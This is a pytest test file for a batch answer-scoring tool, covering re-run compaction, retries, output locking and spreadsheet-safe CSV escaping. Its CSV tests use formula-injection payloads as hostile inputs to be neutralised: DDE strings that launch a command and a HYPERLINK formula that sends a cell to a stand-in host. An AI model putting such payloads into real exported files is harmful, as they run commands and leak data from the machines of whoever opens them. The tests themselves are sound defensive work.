"""The results log counts answers, not lines: re-runs after a fix, retries, one writer, safe CSV."""

from __future__ import annotations

import argparse
import csv
import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from answer_eval.batch.lock import OutputLock
from answer_eval.batch.log import LatestRecords, compact
from answer_eval.batch.resume import record_spans
from answer_eval.batch.spreadsheet import read_cell, safe_cell
from answer_eval.cli import batch_cmd, main
from answer_eval.errors import OutputLockedError
from answer_eval.judges.contract import Judge, JudgeReply, JudgeRequest
from answer_eval.judges.retry import RetryHook
from answer_eval.testing import FakeJudge
from batch_servers import StubConfig, StubServer, small_library

QID = "difficult-customer-issue"
ANSWER = "Last spring a customer was double-billed. I listened, refunded her and fixed the cause."
REPO = Path(__file__).resolve().parents[1]


class FlakyJudge(FakeJudge):
    """Fails (unscored, transport) for answers containing any of ``failing``; editable."""

    def __init__(self) -> None:
        super().__init__(score=4)
        self.failing: set[str] = set()

    def judge(self, request: JudgeRequest, *, on_retry: RetryHook | None = None) -> JudgeReply:
        if any(marker in request.answer for marker in self.failing):
            self.calls += 1
            from answer_eval.errors import JudgeProtocolError

            raise JudgeProtocolError("transport", "scripted outage", attempts=1)
        return super().judge(request, on_retry=on_retry)


@pytest.fixture
def judge(monkeypatch: pytest.MonkeyPatch) -> FlakyJudge:
    flaky = FlakyJudge()

    def factory(args: argparse.Namespace) -> Callable[[], Judge]:
        return lambda: flaky

    monkeypatch.setattr(batch_cmd, "judge_factory", factory)
    return flaky


@pytest.fixture
def lib(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_library(tmp_path_factory.mktemp("rubrics"))


def _rows(n: int) -> list[dict[str, Any]]:
    return [{"id": f"a{i}", "question_id": QID, "answer": f"{ANSWER} Case {i}."} for i in range(n)]


def _write(path: Path, rows: list[dict[str, Any]], tail: bytes = b"") -> Path:
    path.write_bytes(b"".join(json.dumps(r).encode() + b"\n" for r in rows) + tail)
    return path


def _run(lib: Path, *args: str | Path) -> int:
    return main(["batch", *map(str, args), "--rubrics", str(lib), "--no-progress", "--no-cache"])


def _ids(path: Path) -> list[str | None]:
    return [json.loads(line)["id"] for line in path.read_text(encoding="utf-8").splitlines()]


def test_a_re_run_after_fixing_bad_rows_leaves_each_answer_once(
    tmp_path: Path, lib: Path, judge: FlakyJudge, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _rows(4)
    rows[1]["question_id"] = "why-us"  # unknown question
    rows[2].pop("answer")  # missing answer
    source = _write(tmp_path / "in.jsonl", rows, tail=b"{torn json\n")
    out, summary = tmp_path / "out.jsonl", tmp_path / "s.json"
    assert _run(lib, source, "-o", out, "--summary-json", summary) == 1
    assert json.loads(summary.read_text())["by_status"] == {"error": 3, "scored": 2}
    rows[1]["question_id"], rows[2]["answer"] = QID, f"{ANSWER} Fixed."
    _write(source, rows)  # fixed, and the torn line removed
    capsys.readouterr()
    assert _run(lib, source, "-o", out, "--summary-json", summary) == 0
    assert sorted(_ids(out)) == ["a0", "a1", "a2", "a3"]  # each answer once, no stale errors
    data = json.loads(summary.read_text())
    assert (data["rows"], data["by_status"]) == (4, {"scored": 4})
    assert "compacted" in capsys.readouterr().err
    assert main(["report", str(out)]) == 0
    table = capsys.readouterr().out
    assert [line.split()[0] for line in table.splitlines()[2:6]] == ["a0", "a1", "a2", "a3"]
    assert "4 answers" in table


def test_unscored_answers_are_retried_on_a_re_run_unless_asked_not_to(
    tmp_path: Path, lib: Path, judge: FlakyJudge
) -> None:
    source = _write(tmp_path / "in.jsonl", _rows(5))
    out, summary = tmp_path / "out.jsonl", tmp_path / "s.json"
    judge.failing = {"Case 1.", "Case 3."}
    assert _run(lib, source, "-o", out) == 1
    judge.calls = 0
    assert _run(lib, source, "-o", out, "--no-retry-failed", "--summary-json", summary) == 1
    assert judge.calls == 0
    assert json.loads(summary.read_text())["by_status"] == {"scored": 3, "unscored": 2}
    judge.failing = set()
    assert _run(lib, source, "-o", out, "--summary-json", summary) == 0
    assert judge.calls == 2  # only the two unscored answers
    assert sorted(_ids(out)) == [f"a{i}" for i in range(5)]
    assert json.loads(summary.read_text())["by_status"] == {"scored": 5}


def test_a_csv_log_is_compacted_to_one_row_per_answer_too(
    tmp_path: Path, lib: Path, judge: FlakyJudge
) -> None:
    rows = [{**r, "candidate": "=cmd|' /C calc'!A0"} for r in _rows(4)]
    source = _write(tmp_path / "in.jsonl", rows)
    out = tmp_path / "out.csv"
    judge.failing = {"Case 2."}
    assert _run(lib, source, "-o", out) == 1
    judge.failing = set()
    assert _run(lib, source, "-o", out) == 0
    cells = _csv_cells(out)
    assert [c["id"] for c in cells] == ["a0", "a1", "a3", "a2"]  # a2's retry replaced its row
    assert {c["status"] for c in cells} == {"scored"}
    assert {c["candidate"] for c in cells} == {"'=cmd|' /C calc'!A0"}
    assert out.read_bytes().count(b"\r\n") == 5  # the header and one line per answer


def test_an_interrupted_log_is_read_latest_first_without_compaction(tmp_path: Path) -> None:
    """A log with an old and a new record of one answer (as a killed re-run leaves it)."""
    records = [
        {"id": None, "row": 9, "status": "error", "error": "row 9: malformed JSON"},
        {"id": "a1", "row": 1, "status": "unscored", "evaluation": {"unscored_reason": "x"}},
        {"id": None, "row": 2, "status": "error", "error": "row 2: malformed JSON"},
        {"id": "a2", "row": 2, "status": "scored", "evaluation": {"overall": 4.0}},
        {"id": "a1", "row": 1, "status": "scored", "evaluation": {"overall": 3.0}},
    ]
    path = _write(tmp_path / "log.jsonl", records)
    latest: LatestRecords[str] = LatestRecords()
    for record, _, _ in record_spans(path, "jsonl"):
        latest.put(record, str(record["status"]))
    assert list(latest.items()) == [("row:9", "error"), ("id:a2", "scored"), ("id:a1", "scored")]
    size = path.stat().st_size
    this_run = len(json.dumps(records[0])) + len(json.dumps(records[1])) + 2
    assert compact(path, record_spans(path, "jsonl"), errors_from=this_run) == 3
    assert _ids(path) == ["a2", "a1"]  # the row-9 error came from an earlier run
    assert path.stat().st_size < size


def test_a_second_writer_is_refused_at_once(
    tmp_path: Path, lib: Path, judge: FlakyJudge, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.jsonl"
    with OutputLock(out):
        with pytest.raises(OutputLockedError, match=f"pid {os.getpid()}"):
            OutputLock(out).acquire()
        source = _write(tmp_path / "in.jsonl", _rows(2))
        assert _run(lib, source, "-o", out) == 2
        err = capsys.readouterr().err
        assert "is being written by another answer-eval process" in err
        assert "Traceback" not in err
    assert not out.exists() or out.read_text() == ""
    assert _run(lib, source, "-o", out) == 0  # the lock went with its holder


def test_two_batch_processes_on_one_output_never_double_it(tmp_path: Path) -> None:
    """A real second process while the first one runs: it stops at once with exit 2, and the
    first one's file ends with every answer exactly once."""
    lib = small_library(tmp_path / "rubrics")
    source = _write(tmp_path / "in.jsonl", _rows(20))
    out = tmp_path / "out.jsonl"
    env = {**os.environ, "OPENAI_API_KEY": "local-key", "PYTHONPATH": str(REPO / "src")}
    with StubServer(StubConfig(latency=0.2)) as server:  # about 4 s of work for the first
        argv = [sys.executable, "-m", "answer_eval.cli", "batch", str(source), "-o", str(out),
                "--rubrics", str(lib), "--judge", "openai", "--model", "stub", "--base-url",
                server.base_url, "--no-cache", "--no-progress", "--concurrency", "1"]  # fmt: skip
        first = subprocess.Popen(argv, env=env, stderr=subprocess.PIPE, text=True)
        lock = out.with_name("out.jsonl.lock")
        deadline = time.monotonic() + 20
        while not (out.exists() and out.stat().st_size) and time.monotonic() < deadline:
            time.sleep(0.02)  # the first process holds the lock and has written a record
        second = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)
        _, first_err = first.communicate(timeout=60)
    assert second.returncode == 2
    assert f"pid {first.pid}" in second.stderr
    assert str(lock) in second.stderr
    assert "Traceback" not in second.stderr
    assert first.returncode == 0, first_err
    assert sorted(_ids(out)) == sorted(f"a{i}" for i in range(20))


def test_output_naming_a_folder_is_a_usage_error(
    tmp_path: Path, lib: Path, judge: FlakyJudge, capsys: pytest.CaptureFixture[str]
) -> None:
    source = _write(tmp_path / "in.jsonl", _rows(1))
    assert _run(lib, source, "-o", tmp_path) == 2
    assert "is a folder" in capsys.readouterr().err


# ---------------------------------------------------------------------------- spreadsheets

HOSTILE = {
    "id": '=HYPERLINK("http://x.test/?"&A1,"open")',
    "candidate": "+cmd|' /C calc'!A0",
    "role": "@SUM(1+1)*cmd|' /C calc'!A0",
    "team": "-2+3",
    "note": "\t=1+1",
    "cr": "\r=1",
}


def _csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_output_is_safe_to_open_in_a_spreadsheet(
    tmp_path: Path, lib: Path, judge: FlakyJudge
) -> None:
    rows = [
        {**HOSTILE, "question_id": QID, "answer": ANSWER, "delta": -3, "score": 2.5},
        {"id": "@bad", "question_id": "=why-us", "answer": ANSWER, "candidate": "=1"},
    ]
    source = _write(tmp_path / "in.jsonl", rows)
    out = tmp_path / "out.csv"
    assert _run(lib, source, "-o", out) == 1
    cells = _csv_cells(out)
    for row in cells:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
    first, second = cells
    assert first["id"] == "'" + HOSTILE["id"]
    assert first["candidate"] == "'" + HOSTILE["candidate"]
    assert (first["delta"], first["score"]) == ("-3", "2.5")  # numbers stay numbers
    assert first["overall"]
    assert float(first["overall"]) >= 1
    assert second["status"] == "error"
    assert second["question_id"] == "'=why-us"
    judge.calls = 0
    assert _run(lib, source, "-o", out) == 1  # the escaped ids are read back as they were
    assert judge.calls == 0
    assert [read_cell(r["id"]) for r in _csv_cells(out)] == [HOSTILE["id"], "@bad"]


def test_csv_raw_writes_cells_as_given(tmp_path: Path, lib: Path, judge: FlakyJudge) -> None:
    source = _write(tmp_path / "in.jsonl", [{**HOSTILE, "question_id": QID, "answer": ANSWER}])
    out = tmp_path / "raw.csv"
    assert _run(lib, source, "-o", out, "--csv-raw") == 0
    (row,) = _csv_cells(out)
    assert (row["id"], row["candidate"], row["note"]) == (
        HOSTILE["id"],
        HOSTILE["candidate"],
        HOSTILE["note"],
    )
    judge.calls = 0
    assert _run(lib, source, "-o", out, "--csv-raw") == 0
    assert judge.calls == 0


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("-1+1", "'-1+1"),
        ("-inf", "'-inf"),
        ("-3", "-3"),
        ("+2.5e3", "+2.5e3"),
        ("'quoted", "''quoted"),
        ("plain", "plain"),
        (-7, -7),
    ],
)
def test_safe_cell_escapes_text_formulas_and_undoes_exactly(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell
    if isinstance(cell, str):
        assert read_cell(cell) == value
